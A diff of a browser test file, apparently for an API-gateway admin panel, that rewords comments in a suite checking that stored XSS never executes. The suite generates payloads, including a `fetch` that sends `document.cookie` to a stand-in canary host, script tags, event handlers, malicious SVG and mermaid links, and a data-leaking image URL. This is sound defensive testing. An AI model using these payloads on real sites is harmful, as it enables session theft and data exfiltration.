@@ -3,7 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { addChannel } from '../helpers/seed.ts'
 import { go, openStage, type Stage } from './stage.ts'
 
-/** Part I of docs/reference/trust-cases.md: whatever stands in a setting, a name or a message, the browser runs none of it. */
+/** Part I of docs/reference/trust-cases.md: the browser executes nothing that a setting, a name or a message contains. */
 
 const act = `window.hostile=1;fetch('https://canary.test/'+document.cookie)`
 const quoted = act.replaceAll("'", '&#39;')
@@ -71,7 +71,7 @@ const payloads = [
   ...tags.flatMap((tag) => events.map((event) => `<b title='"'><${tag} x="'" ${event}='${act.replaceAll("'", '`')}'>`)),
 ]
 
-/** All of that, and what Markdown, drawings and formulas could make of it. */
+/** All payloads, and those that Markdown, drawings and formulas could produce. */
 const marked = [
   `\`\`\`html\n${wholes.join('\n')}\n\`\`\``,
   `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${act}>"] --> B; click A "javascript:${act}"\n\`\`\``,
@@ -88,7 +88,7 @@ const marked = [
   ...payloads,
 ]
 
-/** What a model can write. Operators may show pictures of other sites; a model could tell them what it knows. */
+/** Content that a model can write. Operators may show images of other sites; a model could use their URLs to leak data. */
 const answers = [
   ...marked,
   '![pixel](https://canary.test/pixel.png)',
@@ -139,7 +139,7 @@ async function open(who: 'nobody' | 'root', language: 'zh' | 'en' = 'en') {
     void dialog.dismiss()
   })
   const expectUnharmed = async () => {
-    // What could act is given a moment of the page's own to do so.
+    // Waits in the page until active content would have run.
     await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50))))
     expect(await page.evaluate('window.hostile')).toBeUndefined()
     expect([reached, dialogs]).toEqual([[], []])
@@ -147,7 +147,7 @@ async function open(who: 'nobody' | 'root', language: 'zh' | 'en' = 'en') {
   return { page, expectUnharmed }
 }
 
-/** What is shown may have neither heading nor paragraph. */
+/** The content may have neither heading nor paragraph. */
 async function visit(page: Page, path: string): Promise<void> {
   await page.goto(path, { waitUntil: 'networkidle' })
   await page.locator('main').waitFor()
@@ -182,7 +182,7 @@ describe('hostile content', () => {
       marked.map((text) => text.replaceAll('<', '&lt;')).join('\n\n'),
       marked.join('\n\n'),
       `- ${marked.join('\n- ')}`,
-      // What one leaves open saves none of the others.
+      // In reverse order, so that an unclosed payload does not disable the others.
       marked.toReversed().join('\n\n'),
     ]
     for (const text of texts) {
@@ -206,7 +206,7 @@ describe('hostile content', () => {
     await addChannel(stage.server, { url: stage.upstream.url, models: 'm<b>', name: 'x', tag: 'x' })
     await stage.server.call('POST /api/token/', { name: 'x', unlimited_quota: true })
     await stage.server.call('POST /api/redemption/', { name: 'x', quota: 1, count: 1 })
-    // All at once, past every check of what is saved.
+    // All payloads together, bypassing the checks of saved values.
     const all = payloads.join(' ')
     await db.updateTable('channels').set({ name: all, tag: all, models: all, group: all }).execute()
     await db.updateTable('tokens').set({ name: all, group: all }).execute()
@@ -263,7 +263,7 @@ describe('hostile content', () => {
     }
     await go(page, '/channel')
     await page.getByText(name).first().waitFor()
-    // The message of a refusal is shown as it is.
+    // The message of a refusal is shown unchanged.
     await page.route(/\/api\/channel\/?(search)?\?/, (route) =>
       route.fulfill({ json: { success: false, message: `${name}<script>window.hostile=1</script>`, code: 'x' } }),
     )
@@ -271,7 +271,7 @@ describe('hostile content', () => {
     await page.getByText(`${name}<script>`).first().waitFor()
     await expectUnharmed()
 
-    // And so is what an upstream says of a request.
+    // And so is an upstream's error message.
     const model = 'gpt-4o-mini'
     await addChannel(stage.server, { url: stage.upstream.url, models: model })
     stage.upstream.program(model, { status: 400, body: { error: { message: `${name}<script>window.hostile=1</script>` } } })
@@ -329,7 +329,7 @@ describe('hostile content', () => {
         expect(await (await save(key, value)).json(), `${key} ${value}`).toMatchObject({ success: false })
       expect(await (await save('Chats', JSON.stringify([{ x: value }]))).json(), value).toMatchObject({ success: false })
     }
-    // A drawing may be the logo: as a picture, where nothing in it acts.
+    // An SVG may be the logo: as an image, in which its scripts do not run.
     const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${quoted}"><script>${act}</script></svg>`
     const { page, expectUnharmed } = await open('nobody')
     expect(await (await save('Logo', `data:image/svg+xml,${encodeURIComponent(drawing)}`)).json()).toMatchObject({
